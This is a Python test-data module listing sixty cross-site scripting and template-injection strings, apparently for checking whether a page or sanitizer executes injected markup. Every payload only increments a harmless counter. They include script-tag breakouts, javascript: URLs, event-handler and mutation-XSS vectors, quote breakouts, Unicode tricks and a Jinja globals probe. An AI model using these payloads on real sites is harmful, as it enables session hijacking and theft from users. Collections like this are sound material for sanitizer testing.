"""Sixty texts that would do something in a page that takes texts for markup; `hit()` says so."""

from __future__ import annotations

from itertools import product

HIT = "window.hit=(window.hit||0)+1"

_ELEMENTS = (
    f"<script>{HIT}</script>",
    f"</script><script>{HIT}</script>",
    f"<!--<script>{HIT}</script>-->",
    f"--><script>{HIT}</script>",
    f"]]><script>{HIT}</script>",
    f"</style><script>{HIT}</script>",
    f"</title><script>{HIT}</script>",
    f"</textarea><script>{HIT}</script>",
    f"</pre></dialog><script>{HIT}</script>",
    f"<scr<script>ipt>{HIT}</scr</script>ipt>",
    f"<SCRIPT SRC=data:text/javascript,{HIT}></SCRIPT>",
    f'<script type="module">{HIT}</script>',
    f"<svg><script>{HIT}</script></svg>",
    f"<math><mtext></form><form><mglyph><style></math><img src=x onerror={HIT}>",
    f'<iframe srcdoc="<script>parent.{HIT}</script>"></iframe>',
    f"<iframe src=javascript:parent.{HIT}></iframe>",
    f"<object data=javascript:{HIT}></object>",
    f"<embed src=javascript:{HIT}>",
    f"<base href=javascript:{HIT}//>",
    f"<meta http-equiv=refresh content=0;url=javascript:{HIT}>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<link rel=stylesheet href=//127.0.0.1:9/x.css>",
    "<style>@import '//127.0.0.1:9/x.css';body{display:none}</style>",
    f"<template><script>{HIT}</script></template>",
    f"<a href=javascript:{HIT}>x</a>",
    f"<form action=javascript:{HIT}><button>x</button></form>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
    f"<x onclick={HIT}>",
)
_HANDLERS = tuple(
    f"<{element} {handler}={HIT}{rest}>"
    for (element, rest), handler in product(
        (
            ("img src=x", ""),
            ("svg", "/"),
            ("body", ""),
            ("details open", ""),
            ("input autofocus", ""),
        ),
        ("onerror", "onload", "ontoggle", "onfocus"),
    )
)
_BREAKOUTS = (
    f'" onfocus="{HIT}" autofocus="',
    f"' onmouseover='{HIT}",
    f"` onload=`{HIT}",
    f'"><img src=x onerror={HIT}>',
    f"javascript:{HIT}",
    f"{{{{ {HIT} }}}}",
    "{{ cycler.__init__.__globals__ }}{% for x in [1] %}!{% endfor %}",
    f"${{{HIT}}}",
    f"\u2028{HIT}\u2029",
    f"\u202e<script>{HIT}</script>",
    f"\ud800<script>{HIT}</script>",
    f"\x00<script>{HIT}</script>",
)

PAYLOADS = (*_ELEMENTS, *_HANDLERS, *_BREAKOUTS)
